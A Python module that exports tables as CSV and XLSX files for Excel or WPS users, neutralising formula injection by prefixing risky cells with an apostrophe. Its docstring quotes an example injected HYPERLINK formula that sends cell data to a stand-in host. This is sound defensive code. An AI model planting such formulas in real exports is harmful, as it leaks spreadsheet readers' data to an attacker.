"""Tables leaving the app as files a clerk opens in Excel or WPS.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read there as a
formula: text a user typed (`=HYPERLINK("http://evil/?"&A1,"点此")`) would run on the
reader's PC. Such cells get a leading apostrophe, which the spreadsheet shows as text
(OWASP's advice on CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

import pandas as pd

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(value):
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def to_csv(frame: pd.DataFrame) -> bytes:
    """UTF-8 with a byte-order mark, so Excel on a Chinese Windows opens it correctly. Lines
    end in CRLF, as Excel writes them; it also makes the writer quote a cell holding a lone
    CR, which would otherwise split the row."""
    buf = io.StringIO()
    frame.map(neutral).to_csv(buf, index=False, lineterminator="\r\n")
    return buf.getvalue().encode("utf-8-sig")


CSV_BOM = "\ufeff".encode()


def csv_lines(rows: Iterable[Sequence]) -> bytes:
    """Rows as UTF-8 CSV with the same conventions as to_csv (neutralised cells, CRLF), to
    stream a file piece by piece: CSV_BOM first, then the header and batches of rows."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerows([neutral(cell) for cell in row] for row in rows)
    return buf.getvalue().encode("utf-8")


def to_xlsx(frame: pd.DataFrame, *, sheet: str = "Sheet1") -> bytes:
    """A small table (a list of what is due) as an XLSX workbook: a header row in bold,
    text written as text, so a typed `=...` never becomes a formula."""
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False,
                                     "strings_to_urls": False, "strings_to_numbers": False})
    bold = book.add_format({"bold": True})
    ws = book.add_worksheet(sheet)
    for col, name in enumerate(frame.columns):
        ws.write_string(0, col, str(name), bold)
        # Wide enough for the longest cell (a Chinese character takes two widths).
        longest = max([len(str(name)), *(len(str(v)) for v in frame.iloc[:, col])])
        ws.set_column(col, col, max(10, min(60, 2 * longest + 2)))
    for line, row in enumerate(frame.itertuples(index=False), start=1):
        for col, value in enumerate(row):
            if isinstance(value, int | float) and not isinstance(value, bool):
                ws.write_number(line, col, value)
            else:
                ws.write_string(line, col, "" if value is None else str(value))
    ws.freeze_panes(1, 0)
    ws.autofilter(0, 0, len(frame), max(len(frame.columns) - 1, 0))
    book.close()
    return out.getvalue()
